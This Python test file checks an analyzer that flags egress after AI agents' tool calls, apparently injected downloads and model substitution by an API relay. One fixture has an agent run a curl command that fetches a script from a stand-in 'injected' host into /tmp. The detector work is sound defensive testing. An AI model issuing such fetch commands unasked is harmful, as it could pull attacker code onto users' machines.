"""The gaps the scoring on unseen routers showed, one test each, through the real engine and rules:
the curl of a JSON API, the URL inside a written file, the second substituted exchange (also when it
arrives in a later run), the child that only resolves the injected host, a DoH lookup by that child."""

from __future__ import annotations

import datetime as dt
import json

from analyzer.engine import analyze, memory_connection
from analyzer.rules import load_rules
from analyzer.rules.testing import load_rows
from collector.catalog import load_catalog

T = dt.datetime(2026, 3, 1, 12, 0, 0)


def at(s: float) -> dt.datetime:
    return T + dt.timedelta(seconds=s)


def run(tables: dict, con=None):
    con = con or memory_connection()
    load_rows(con, tables)
    res = analyze(con, load_catalog(None), load_rules())
    return con, res


def exchange(ex: str, s: float, **kw) -> dict:
    return {"ts": at(s), "exchange_id": ex, "flow_uid": f"F{ex}", "host_id": "h1", "api": "openai.chat",
            "host": "relay.example", "model_requested": "gpt-4o", "model_returned": "gpt-4o-2024-08-06", **kw}


def call(ex: str, name: str, args: dict, idx: int = 0) -> dict:
    return {"exchange_id": ex, "idx": idx, "name": name, "direction": "response", "arguments": json.dumps(args)}


def test_curl_of_a_json_api_is_a_low_egress_intent_not_an_injection():
    _, res = run({"llm_exchanges": [exchange("X1", 1)],
                  "tool_calls": [call("X1", "shell", {"command": "curl -s https://api.partner.example/v1/items | jq ."})]})
    assert [(f["rule_id"], f["severity"], f["attack_class"]) for f in res.findings] == [
        ("tool-call-egress-intent", "low", "egress")]


def test_url_inside_a_written_file_is_not_a_fetch_intent():
    content = "import requests\nRPC = 'https://rpc.sepolia.org'\nrequests.post(RPC, json={})\n"
    _, res = run({"llm_exchanges": [exchange("X1", 1)],
                  "tool_calls": [call("X1", "write_file", {"path": "scripts/faucet.py", "content": content}),
                                 call("X1", "shell", {"command": "cat > notes.md <<'EOF'\nsee https://docs.example.org\nEOF"}, 1),
                                 call("X1", "shell", {"command": "echo 'RPC=https://rpc.sepolia.org' >> .env.example"}, 2)]})
    assert res.findings == []


def test_second_substituted_exchange_is_accounted_for_in_the_same_and_a_later_run():
    con, res = run({"llm_exchanges": [exchange("X1", 1, model_returned="gpt-4o-mini-2024-07-18"),
                                      exchange("X2", 30, model_returned="gpt-4o-mini-2024-07-18")]})
    (f,) = [f for f in res.findings if f["rule_id"] == "model-substitution"]
    cov = lambda: sorted(con.execute(  # noqa: E731
        "SELECT exchange_id, flow_uid, raised FROM finding_coverage WHERE finding_id = ? ORDER BY exchange_id",
        [f["finding_id"]]).fetchall())
    assert cov() == [("X1", "FX1", True), ("X2", "FX2", False)]
    before = con.execute("SELECT * FROM findings").fetchall()
    # a third substituted exchange in a later run: no new finding, one more coverage row, findings unchanged
    _, res2 = run({"llm_exchanges": [exchange("X3", 90, model_returned="gpt-4o-mini")]}, con)
    assert [x["rule_id"] for x in res2.findings] == []
    assert cov() == [("X1", "FX1", True), ("X2", "FX2", False), ("X3", "FX3", False)]
    assert con.execute("SELECT * FROM findings").fetchall() == before
    # and again: nothing new anywhere
    n = con.execute("SELECT count(*) FROM finding_coverage").fetchone()[0]
    analyze(con, load_catalog(None), load_rules())
    assert con.execute("SELECT count(*) FROM finding_coverage").fetchone()[0] == n


def _agent_with_child(resolver_source: str) -> dict:
    return {
        "processes": [{"ts": at(0), "host_id": "h1", "pid": 100, "ppid": 1, "exe": "/usr/bin/node"},
                      {"ts": at(2), "host_id": "h1", "pid": 101, "ppid": 100, "exe": "/bin/sh"},
                      {"ts": at(2), "host_id": "h1", "pid": 102, "ppid": 101, "exe": "/usr/bin/curl"}],
        "llm_exchanges": [exchange("X1", 1, pid=100)],
        "tool_calls": [call("X1", "shell", {"command": "curl -fsSL https://cdn.upd-mirror.example/a.sh -o /tmp/a.sh"})],
        "dns": [{"ts": at(3), "host_id": "h1", "pid": 102, "query": "cdn.upd-mirror.example", "qtype": "A",
                 "rcode": "NOERROR", "answers": ["127.0.0.9"], "is_response": True, "source": resolver_source}],
    }


def test_child_that_only_resolves_the_injected_host_raises_high():
    _, res = run(_agent_with_child("ebpf-getaddrinfo"))
    eg = [f for f in res.findings if f["rule_id"] == "egress-after-tool-call"]
    assert [(f["severity"], f["pid"], f["exchange_id"]) for f in eg] == [("high", 102, "X1")]
    ev = json.loads(eg[0]["evidence"])
    assert (ev["destination"], ev["resolved"], ev["contacted"], ev["attribution"]) == (
        "cdn.upd-mirror.example", True, False, "descendant")
    # the same intent alone stays low
    assert {f["rule_id"]: f["severity"] for f in res.findings}["tool-call-egress-intent"] == "low"


def test_child_resolving_through_doh_counts_the_same():
    _, res = run(_agent_with_child("doh"))
    eg = [f for f in res.findings if f["rule_id"] == "egress-after-tool-call"]
    assert len(eg) == 1 and "(doh)" in json.loads(eg[0]["evidence"])["lookups"][0]


def test_failed_connect_to_the_looked_up_loopback_address_is_the_same_finding():
    tables = _agent_with_child("ebpf-getaddrinfo")
    tables["flows"] = [{"flow_uid": "E1", "host_id": "h1", "ts_start": at(3.5), "proto": "tcp", "dst_ip": "127.0.0.9",
                        "dst_port": 443, "pid": 102, "tcp_state": "REJ"}]
    con, res = run(tables)
    (eg,) = [f for f in res.findings if f["rule_id"] == "egress-after-tool-call"]
    ev = json.loads(eg["evidence"])
    assert (ev["resolved"], ev["contacted"], ev["failed_connects"], eg["flow_uid"]) == (True, True, 1, "E1")
    assert {r[0] for r in con.execute("SELECT flow_uid FROM finding_coverage WHERE finding_id = ?",
                                      [eg["finding_id"]]).fetchall()} == {"E1"}
